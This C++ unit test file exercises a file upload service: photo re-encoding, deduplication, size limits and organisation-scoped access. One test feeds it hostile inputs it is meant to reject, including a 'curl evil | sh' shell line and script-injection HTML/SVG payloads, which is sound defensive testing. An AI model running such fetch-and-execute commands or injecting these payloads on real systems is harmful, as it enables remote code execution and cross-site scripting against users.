#include "files/file_service.hpp"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>

#include "files/files_routes.hpp"
#include "system/system_test_fixture.hpp"

namespace app::files {
namespace {

using namespace std::string_view_literals;
using system::testing_support::CodeOf;

// A complete 1×1 RGB PNG (IHDR, IDAT, IEND with their CRCs).
constexpr std::string_view kPng =
    "\x89\x50\x4E\x47\x0D\x0A\x1A\x0A\x00\x00\x00\x0D\x49\x48\x44\x52\x00\x00\x00\x01"
    "\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53\xDE\x00\x00\x00\x0C\x49\x44\x41"
    "\x54\x78\x9C\x63\xF8\xCF\xC0\x00\x00\x03\x01\x01\x00\xC9\xFE\x92\xEF\x00\x00\x00"
    "\x00\x49\x45\x4E\x44\xAE\x42\x60\x82"sv;
constexpr std::string_view kPdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"sv;

class FileServiceTest : public system::testing_support::TreeFixture {
protected:
    FileServiceTest() {
        std::string pattern = (std::filesystem::temp_directory_path() / "ankang-files-XXXXXX").string();
        directory_ = ::mkdtemp(pattern.data());
        service_.emplace(database_.Get(), clock_, directory_);
    }
    ~FileServiceTest() override { std::filesystem::remove_all(directory_); }

    std::size_t CountBlobs() const {
        std::size_t count = 0;
        if (!std::filesystem::exists(directory_ / "files")) return 0;
        for (const auto& entry : std::filesystem::recursive_directory_iterator(directory_ / "files"))
            count += entry.is_regular_file() ? 1 : 0;
        return count;
    }

    std::string FieldOf(const std::function<void()>& action) {
        try {
            action();
        } catch (const Error& error) {
            std::string fields;
            for (const auto& [field, message] : error.GetFieldErrors()) fields += field;
            return fields;
        }
        return "(no error)";
    }

    std::filesystem::path directory_;
    std::optional<FileService> service_;
};

TEST_F(FileServiceTest, APhotoIsReencodedStoredOnDiskWithAThumbnailAndAudited) {
    const RequestContext cadre = ContextFor(county_x_cadre_);
    const FileRecord record = service_->Upload(cadre, kPng, " 现场照片.png ", std::nullopt);
    EXPECT_GT(record.id, 0);
    EXPECT_EQ(record.media_type, "image/jpeg");
    EXPECT_EQ(record.width, 1);
    EXPECT_EQ(record.height, 1);
    EXPECT_EQ(record.original_name, "现场照片.png");
    EXPECT_EQ(record.organisation_id, county_x_);  // the caller's own organisation by default
    EXPECT_EQ(record.uploaded_by, county_x_cadre_);
    EXPECT_TRUE(record.HasThumbnail());

    const std::string stored = service_->Content(record, FileVariant::kOriginal);
    EXPECT_EQ(stored.substr(0, 3), "\xFF\xD8\xFF");  // a JPEG now
    EXPECT_EQ(static_cast<std::int64_t>(stored.size()), record.byte_size);
    EXPECT_EQ(Sha256Hex(stored), record.sha256);
    EXPECT_TRUE(std::filesystem::is_regular_file(directory_ / "files" / record.sha256.substr(0, 2) /
                                                 record.sha256.substr(2, 2) / record.sha256));
    EXPECT_EQ(service_->Content(record, FileVariant::kThumbnail).substr(0, 3), "\xFF\xD8\xFF");
    EXPECT_EQ(Count("SELECT COUNT(*) FROM audit_log WHERE action = 'upload' AND entity_type = 'file' AND "
                    "entity_id = '" +
                    std::to_string(record.id) + "'"),
              1);

    const boost::json::object json = FileToJson(record);
    EXPECT_EQ(json.at("url").as_string(), "/api/v1/files/" + std::to_string(record.id));
    EXPECT_EQ(json.at("thumbnailUrl").as_string(),
              "/api/v1/files/" + std::to_string(record.id) + "/thumbnail");
}

TEST_F(FileServiceTest, IdenticalContentIsStoredOnceButEachUploadHasItsRow) {
    const RequestContext cadre = ContextFor(county_x_cadre_);
    const FileRecord first = service_->Upload(cadre, kPng, "a.png", std::nullopt);
    const std::size_t blobs = CountBlobs();
    EXPECT_GE(blobs, 1u);  // photo and thumbnail (the same bytes for a 1 × 1 image)
    const FileRecord second = service_->Upload(cadre, kPng, "b.png", town_);
    EXPECT_NE(first.id, second.id);
    EXPECT_EQ(first.sha256, second.sha256);
    EXPECT_EQ(second.organisation_id, town_);
    EXPECT_EQ(CountBlobs(), blobs);
}

TEST_F(FileServiceTest, APdfIsKeptAsSentWithoutThumbnail) {
    const RequestContext cadre = ContextFor(county_x_cadre_);
    const FileRecord record = service_->Upload(cadre, kPdf, "整改报告.pdf", std::nullopt);
    EXPECT_EQ(record.media_type, "application/pdf");
    EXPECT_EQ(record.width, 0);
    EXPECT_FALSE(record.HasThumbnail());
    EXPECT_EQ(service_->Content(record, FileVariant::kOriginal), kPdf);
    EXPECT_EQ(CodeOf([&] { service_->Content(record, FileVariant::kThumbnail); }), ErrorCode::kNotFound);
    EXPECT_TRUE(FileToJson(record).at("thumbnailUrl").is_null());
}

TEST_F(FileServiceTest, ContentThatIsNotAnAllowedTypeIsRefusedOnTheFileFieldAndNothingIsStored) {
    const RequestContext cadre = ContextFor(county_x_cadre_);
    for (
        std::string_view content :
        {"#!/bin/sh\ncurl evil | sh\n"sv, "<!DOCTYPE html><script>alert(1)</script>"sv,
         "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"sv,
         "GIF89a\x01\x00\x01\x00\x80\x00\x00\xFF\xFF\xFF\x00\x00\x00!\xF9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00;"sv,
         "\xFF\xD8\xFF\xE0 not really a jpeg"sv, ""sv}) {
        EXPECT_EQ(FieldOf([&] { service_->Upload(cadre, content, "photo.jpg", std::nullopt); }), "file")
            << content;
    }
    EXPECT_EQ(Count("SELECT COUNT(*) FROM files"), 0);
    EXPECT_EQ(CountBlobs(), 0u);
}

TEST_F(FileServiceTest, MoreThanTenMebibytesIsTooLarge) {
    const RequestContext cadre = ContextFor(county_x_cadre_);
    std::string big(kMaxUploadBytes + 1, 'x');
    big.replace(0, kPdf.size(), kPdf);
    EXPECT_EQ(CodeOf([&] { service_->Upload(cadre, big, "big.pdf", std::nullopt); }),
              ErrorCode::kPayloadTooLarge);
    big.resize(kMaxUploadBytes);
    EXPECT_EQ(service_->Upload(cadre, big, "just.pdf", std::nullopt).byte_size,
              static_cast<std::int64_t>(kMaxUploadBytes));
}

TEST_F(FileServiceTest, FilesAreSeenOnlyWithinScope) {
    const FileRecord record = service_->Upload(ContextFor(town_cadre_), kPng, "x.png", std::nullopt);
    EXPECT_EQ(record.organisation_id, town_);
    EXPECT_EQ(service_->Get(ContextFor(county_x_cadre_), record.id).id, record.id);  // the town is below
    EXPECT_EQ(service_->Get(ContextFor(admin_), record.id).id, record.id);
    EXPECT_EQ(CodeOf([&] { service_->Get(ContextFor(county_y_cadre_), record.id); }), ErrorCode::kNotFound);
    EXPECT_EQ(CodeOf([&] { service_->Get(ContextFor(county_x_cadre_), record.id + 100); }),
              ErrorCode::kNotFound);

    // Uploading for an organisation outside the scope is refused before any work.
    EXPECT_EQ(FieldOf([&] { service_->Upload(ContextFor(county_y_cadre_), kPng, "x.png", county_x_); }),
              "organisationId");
    EXPECT_EQ(FieldOf([&] { service_->Upload(ContextFor(town_cadre_), kPng, "x.png", county_x_); }),
              "organisationId");
}

TEST_F(FileServiceTest, OtherModulesCheckTheFileIdsTheyAreGiven) {
    const FileRecord mine = service_->Upload(ContextFor(county_x_cadre_), kPng, "x.png", std::nullopt);
    const FileRecord theirs = service_->Upload(ContextFor(county_y_cadre_), kPng, "y.png", std::nullopt);
    const Principal principal = ContextFor(county_x_cadre_).principal;
    database_->Read([&](db::Session& session) {
        RequireUsableFiles(session, principal, {mine.id, mine.id}, "photoFileIds");
        RequireUsableFiles(session, principal, {}, "photoFileIds");
        EXPECT_EQ(FieldOf([&] {
                      RequireUsableFiles(session, principal, {mine.id, theirs.id}, "photoFileIds");
                  }),
                  "photoFileIds");
        EXPECT_EQ(
            FieldOf([&] { RequireUsableFiles(session, principal, {theirs.id + 1000}, "evidenceFileIds"); }),
            "evidenceFileIds");
    });
}

TEST_F(FileServiceTest, UploadsThroughAPublicLinkHaveNoUploaderAndBelongToTheGivenOrganisation) {
    RequestContext anonymous;
    anonymous.request_id = "public-reply";
    const PreparedFile prepared = service_->PrepareUpload(kPng, "整改后.png");
    const FileRecord record = database_->Write([&](db::Session& session) {
        return FileService::RecordUpload(session, anonymous, prepared, county_x_, clock_.Now());
    });
    EXPECT_EQ(record.organisation_id, county_x_);
    EXPECT_FALSE(record.uploaded_by.has_value());
    EXPECT_EQ(Count("SELECT COUNT(*) FROM files WHERE uploaded_by IS NULL"), 1);
    EXPECT_EQ(Count("SELECT COUNT(*) FROM audit_log WHERE action = 'upload' AND user_id IS NULL"), 1);
    // The cadres of the issuing organisation see it.
    EXPECT_EQ(service_->Get(ContextFor(county_x_cadre_), record.id).id, record.id);

    const FileRecord by_user = service_->Upload(ContextFor(county_x_cadre_), kPng, "x.png", std::nullopt);
    database_->Read([&](db::Session& session) {
        RequireReplyFiles(session, county_x_, clock_.Now(), {record.id}, "evidenceFileIds");
        EXPECT_EQ(FieldOf([&] {
                      RequireReplyFiles(session, county_x_, clock_.Now(), {by_user.id}, "evidenceFileIds");
                  }),
                  "evidenceFileIds");
        EXPECT_EQ(FieldOf([&] {
                      RequireReplyFiles(session, county_y_, clock_.Now(), {record.id}, "evidenceFileIds");
                  }),
                  "evidenceFileIds");
        EXPECT_EQ(FieldOf([&] {
                      RequireReplyFiles(session, county_x_, clock_.Now() + 1, {record.id}, "evidenceFileIds");
                  }),
                  "evidenceFileIds");
    });
}

}  // namespace
}  // namespace app::files
